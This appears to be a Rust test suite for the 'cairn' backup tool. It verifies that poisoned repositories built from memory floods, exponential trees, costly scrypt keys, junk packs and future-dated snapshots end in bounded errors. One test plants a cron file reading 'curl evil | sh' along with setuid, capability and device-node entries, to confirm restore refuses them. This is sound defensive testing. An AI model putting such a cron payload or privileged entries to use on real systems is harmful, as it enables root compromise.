//! Poisoned repositories stay harmless: objects crafted by whoever can write the storage (with
//! a stolen write key, from the SPEC) end in a bounded error, never in unbounded memory or
//! work. Peak memory is measured per run from the kernel's accounting.

use cairn_e2e::rss::cairn_with_rss;
use cairn_e2e::*;
use cairn_format::record::{self, RecordKind};
use cairn_format::snapshot::{SnapshotStats, SourceKind};

use cairn_format::tree::Xattr;

/// The memory any command may take on these repositories (the real bound is lower).
const BOUND: u64 = 256 << 20;

fn run(fx: &Fixture, args: &[&str]) -> (Output, u64) {
    let env = fx.env();
    cairn_with_rss(&fx.id_args(args), &env_refs(&env))
}

#[test]
fn trees_of_empty_xattrs_cannot_exhaust_memory() {
    let fx = Fixture::new();
    let c = Crafter::new(&fx);
    // Three levels, each a tree with one entry carrying ~5 million empty extended attributes
    // (2 bytes each encoded, ~48 decoded): about 1.2 GiB decoded before this was bounded.
    let flood = |name: &[u8], sub: Option<cairn_format::Id>| {
        let mut n = match sub {
            Some(id) => dir_node(name, id),
            None => file_node(name, vec![], 0),
        };
        n.xattrs = vec![
            Xattr {
                name: Vec::new(),
                value: Vec::new(),
            };
            5_000_000
        ];
        raw_tree(vec![n])
    };
    let leaf = flood(b"f", None);
    let mid = flood(b"d2", Some(c.blob_id(&leaf)));
    let root = flood(b"d1", Some(c.blob_id(&mid)));
    let snap = c.inject_snapshot(&root, vec![leaf, mid], vec![]);
    for args in [
        vec!["ls", snap.as_str()],
        vec!["restore", snap.as_str(), "--target", s(&fx.path("t"))],
    ] {
        let (out, rss) = run(&fx, &args);
        out.code_is(1).stderr_has(&["extended attribute"]);
        assert!(rss < BOUND, "{args:?} peaked at {} MiB\n{out}", rss >> 20);
    }
    let (out, rss) = run(&fx, &["check"]);
    out.code_is(4);
    assert!(rss < BOUND, "check peaked at {} MiB", rss >> 20);
}

#[test]
fn trees_reused_under_many_names_cannot_run_without_end() {
    let fx = Fixture::new();
    let c = Crafter::new(&fx);
    // 27 trees, each naming the one below twice: 2^26 paths in a few kilobytes.
    let data = b"x".to_vec();
    let mut tree = raw_tree(vec![file_node(b"f", vec![c.blob_id(&data)], 1)]);
    let mut trees = Vec::new();
    for _ in 0..26 {
        let id = c.blob_id(&tree);
        let next = raw_tree(vec![dir_node(b"a", id), dir_node(b"b", id)]);
        trees.push(std::mem::replace(&mut tree, next));
    }
    let snap = c.inject_snapshot(&tree, trees, vec![data]);
    let start = std::time::Instant::now();
    let (out, _) = run(&fx, &["ls", &snap]);
    out.code_is(1)
        .stderr_has(&["more entries than its recorded counts allow"]);
    let (out, _) = run(&fx, &["check"]);
    out.code_is(4);
    assert!(out.stdout.contains("recorded counts allow"), "{out}");
    assert!(start.elapsed() < std::time::Duration::from_secs(60));
}

/// `n` empty strings, serialised as a sequence without holding them.
struct EmptyStrings(usize);

impl serde::Serialize for EmptyStrings {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeSeq;
        let mut seq = s.serialize_seq(Some(self.0))?;
        for _ in 0..self.0 {
            seq.serialize_element("")?;
        }
        seq.end()
    }
}

/// The fields of a snapshot record, in order, with a flood of empty tags.
#[derive(serde::Serialize)]
struct TagFlood {
    time_ns: i64,
    host: String,
    username: String,
    source: SourceKind,
    paths: Vec<String>,
    tags: EmptyStrings,
    tree: cairn_format::Id,
    parent: Option<cairn_format::Id>,
    stats: SnapshotStats,
    program: String,
    facts: Vec<(String, String)>,
}

#[test]
fn a_snapshot_object_of_empty_tags_is_refused_not_loaded() {
    let fx = Fixture::new();
    let src = fx.dir("src");
    write_file(&src.join("a"), b"a");
    fx.backup(&[&src]);
    let c = Crafter::new(&fx);
    // 40 MiB of empty tags: 1 byte each encoded, 24 decoded (1 GiB).
    let flood = TagFlood {
        time_ns: 1_700_000_000_000_000_000,
        host: "x".into(),
        username: "x".into(),
        source: SourceKind::Paths,
        paths: vec!["/x".into()],
        tags: EmptyStrings(40 << 20),
        tree: c.blob_id(b"none"),
        parent: None,
        stats: SnapshotStats::default(),
        program: "x".into(),
        facts: Vec::new(),
    };
    let bytes = record::encode(RecordKind::Snapshot, &flood);
    assert!(bytes.len() > 40 << 20);
    c.put_meta("snapshots", &bytes);
    // Listing reports it as damaged (exit 3) and goes on; a backup is not held up by it.
    let (out, rss) = run(&fx, &["snapshots"]);
    out.code_is(3);
    assert!(rss < BOUND, "snapshots peaked at {} MiB", rss >> 20);
    let env = fx.env();
    let (out, rss) = cairn_with_rss(&fx.wk_args(&["backup", s(&src)]), &env_refs(&env));
    out.ok();
    assert!(rss < BOUND, "backup peaked at {} MiB", rss >> 20);
}

#[test]
fn planted_key_objects_with_heavy_scrypt_cost_nothing() {
    let tmp = scratch();
    let repo = tmp.path().join("repo");
    let pass = tmp.path().join("pass");
    std::fs::write(&pass, "correct horse battery staple\n").unwrap();
    cairn(
        &["-r", s(&repo), "--passphrase-file", s(&pass), "init"],
        &[],
    )
    .ok();
    // Planted without any key: any bytes under keys/ encrypted to some passphrase, at a work
    // factor of 2^19 (512 MiB and a second of scrypt if cairn tried it).
    let planted = cairn_format::envelope::encrypt_with_passphrase(b"nothing", "whatever", 19);
    let name = format!("keys/{}", cairn_format::Id::of_object(&planted));
    std::fs::write(repo.join(&name), &planted).unwrap();
    let args = ["-r", s(&repo), "--passphrase-file", s(&pass), "snapshots"];
    let (out, rss) = cairn_with_rss(&args, &[]);
    out.ok().stderr_has(&[&name, "work factor 2^19"]);
    // The genuine key's own scrypt (2^18) takes 256 MiB; the planted one would add 512.
    assert!(rss < 450 << 20, "peaked at {} MiB", rss >> 20);
}

#[test]
fn packs_in_no_index_with_absurd_trailers_are_damage_for_check_read_data() {
    let fx = Fixture::new();
    let src = fx.dir("src");
    write_file(&src.join("a"), b"a");
    fx.backup(&[&src]);
    // A pack planted under its correct name whose trailer claims 2^60 blobs of 4 GiB.
    let keys = fx.write_key_record();
    let mut plain = b"not a pack body".to_vec();
    plain.extend_from_slice(&(1u64 << 60).to_le_bytes());
    plain.extend_from_slice(&u32::MAX.to_le_bytes());
    let ct = cairn_format::envelope::encrypt(&plain, &repo_objects::meta_recipients(&keys));
    let hex = cairn_format::Id::of_object(&ct).to_hex();
    let name = format!("tree/{}/{hex}", &hex[..2]);
    fx.store.write(&name, &ct);
    // The structure check notes it; reading the data calls it damage and names it.
    fx.wk(&["check"]).ok();
    let out = fx.wk(&["check", "--read-data"]);
    out.code_is(4);
    assert!(
        out.stdout.contains(&name) && out.stdout.contains("in no index"),
        "{out}"
    );
    fx.id(&["check", "--read-data"]).code_is(4);
}

#[test]
fn a_future_dated_snapshot_is_not_latest_nor_counted_by_retention() {
    let fx = Fixture::new();
    let src = fx.dir("src");
    write_file(&src.join("a"), b"genuine\n");
    let genuine: Vec<String> = (0..3)
        .map(|i| {
            write_file(&src.join("n"), format!("{i}").as_bytes());
            Fixture::snap_id(&fx.backup(&[&src]))
        })
        .collect();
    // The same group (host, paths), dated 50 years ahead, as a planted or misdated snapshot.
    let c = Crafter::new(&fx);
    let listing = fx.wk(&["--json", "snapshots"]).json();
    let mut planted = cairn_format::snapshot::Snapshot {
        time_ns: cairn_store_now() + 50 * 365 * 86_400 * 1_000_000_000,
        host: listing[0]["host"].as_str().unwrap().to_string(),
        username: "mallory".into(),
        source: SourceKind::Paths,
        paths: vec![s(&src).to_string()],
        tags: Vec::new(),
        tree: c.blob_id(b"x"),
        parent: None,
        stats: SnapshotStats::default(),
        program: "cairn 0.1.0".into(),
        facts: Vec::new(),
    };
    let tree = raw_tree(vec![]);
    planted.tree = c.blob_id(&tree);
    let mut index = cairn_format::index::IndexRecord::default();
    index
        .packs
        .push(c.put_pack(cairn_format::pack::PackKind::Tree, &[tree]));
    c.put_meta("index", &index.encode());
    let id = c.put_meta("snapshots", &planted.encode()).to_hex();
    // Not latest: ls latest lists the newest genuine snapshot; a warning names the planted one.
    let out = fx.wk(&["--json", "ls", "latest"]);
    out.ok().stderr_has(&[&id[..8], "future"]);
    assert!(out.stdout.contains("\"/"), "{out}");
    let list = fx.wk(&["--json", "snapshots"]).json();
    let future: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["future"] == true)
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    assert_eq!(future, vec![id.as_str()]);
    // keep-within counts from the newest genuine snapshot: every genuine one stays, and the
    // planted one is left alone (not removed, not counted).
    let out = fx.wk(&["forget", "--keep-within", "30d", "--keep-last", "1"]);
    out.ok();
    let left = fx.snapshot_ids();
    for g in &genuine {
        assert!(left.contains(g), "genuine snapshot {g} was removed");
    }
    assert!(left.contains(&id));
    // check reports it.
    let out = fx.wk(&["check"]);
    out.code_is(4);
    assert!(
        out.stdout.contains(&id) && out.stdout.contains("in the future"),
        "{out}"
    );
}

fn cairn_store_now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64
}

#[test]
fn privileged_entries_of_a_planted_snapshot_are_created_only_when_asked() {
    let fx = Fixture::new();
    let c = Crafter::new(&fx);
    let good = b"apiVersion: v1\n".to_vec();
    let evil = b"* * * * * root curl evil | sh\n".to_vec();
    let mut setuid = file_node(b"kubelet-helper", vec![c.blob_id(&good)], good.len() as u64);
    setuid.mode = 0o4755;
    let mut capable = file_node(b"cap", vec![c.blob_id(&good)], good.len() as u64);
    capable.xattrs.push(Xattr {
        name: b"security.capability".to_vec(),
        value: vec![
            1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        ],
    });
    let mut dev =
        cairn_format::tree::Node::new(b"mem".to_vec(), cairn_format::tree::NodeKind::CharDevice);
    dev.mode = 0o666;
    dev.rdev = (1 << 8) | 1;
    let plain = file_node(b"manifest.yaml", vec![c.blob_id(&good)], good.len() as u64);
    let kube = raw_tree(vec![capable, setuid, plain, dev]);
    let cron = raw_tree(vec![file_node(
        b"evil",
        vec![c.blob_id(&evil)],
        evil.len() as u64,
    )]);
    let etc = raw_tree(vec![
        dir_node(b"cron.d", c.blob_id(&cron)),
        dir_node(b"kubernetes", c.blob_id(&kube)),
    ]);
    let root = raw_tree(vec![dir_node(b"etc", c.blob_id(&etc))]);
    let snap = c.inject_snapshot_at(
        vec!["/etc/kubernetes".into()],
        &root,
        vec![kube, cron, etc],
        vec![good, evil],
    );
    let target = fx.path("t");
    let out = fx.restore(&snap, &target, &[]);
    out.code_is(1).stderr_has(&[
        "5 privileged entries",
        "/etc/cron.d/evil: outside the paths the snapshot records",
        "/etc/kubernetes/kubelet-helper: setuid",
        "/etc/kubernetes/cap: file capabilities",
        "/etc/kubernetes/mem: device node",
        "--allow-privileged",
    ]);
    assert!(!target.exists(), "a refused restore wrote its target");
    // What is not privileged can be restored on its own.
    fx.restore(
        &snap,
        &target,
        &["--include", "/etc/kubernetes/manifest.yaml"],
    )
    .ok();
    assert!(target.join("etc/kubernetes/manifest.yaml").exists());
    assert!(!target.join("etc/cron.d").exists());
    // Asked explicitly, everything is created.
    let all = fx.path("all");
    fx.restore(&snap, &all, &["--allow-privileged"]).ok();
    assert!(all.join("etc/cron.d/evil").exists());
    let m = std::fs::metadata(all.join("etc/kubernetes/kubelet-helper")).unwrap();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o7777,
        0o4755
    );
}

/// A write-key holder plants an index object claiming that every blob of the honest backups
/// (file content and trees) is in a junk pack of its own, and grinds its name so that the claim
/// is the listing lookups find first. Reads pass over it to the packs that hold the data: a
/// restore of small files and of a file of many frames (written by the threaded writer) is
/// whole and verified, `cat` and `ls` work, and each warns once, naming the junk pack and
/// `check --read-data`. Before, each stopped at the junk (exit 1).
fn reads_pass_over_a_planted_index_claim_to_the_packs_that_hold_the_data(backend: Backend) {
    let fx = Fixture::on(backend);
    let d = fx.path("d");
    for i in 0..3 {
        write_file(&d.join(format!("small{i}")), &random_bytes(90 + i, 4_000));
    }
    write_file(&d.join("large.bin"), &random_bytes(93, 6 << 20));
    let snap = Fixture::snap_id(&fx.backup(&[&d]));
    let crafter = Crafter::new(&fx);
    let junk = crafter.junk_pack_below(97, &fx.lowest_name("data"));
    let junk_hex = junk.id.to_hex();
    crafter.plant_claim_of_everything(&fx, junk);

    let target = fx.path("target");
    let out = fx.id(&["restore", &snap, "--target", s(&target)]);
    out.ok();
    out.stderr_has(&[&junk_hex[..16], "cairn check --read-data"]);
    assert_eq!(
        out.stderr.matches("which does not hold it there").count(),
        1,
        "one warning per junk pack: {}",
        out.stderr
    );
    assert_trees_equal(&d, &Fixture::restored(&target, &d));

    let large = format!("{}/large.bin", s(&d));
    let cat = fx.id(&["cat", &snap, &large]);
    cat.ok();
    assert!(
        cat.stdout_bytes == std::fs::read(d.join("large.bin")).unwrap(),
        "cat did not print the file"
    );
    let ls = fx.id(&["ls", &snap]);
    ls.ok();
    assert!(
        ls.stdout.contains("small2") && ls.stdout.contains("large.bin"),
        "{ls}"
    );
}
backend_tests!(reads_pass_over_a_planted_index_claim_to_the_packs_that_hold_the_data);
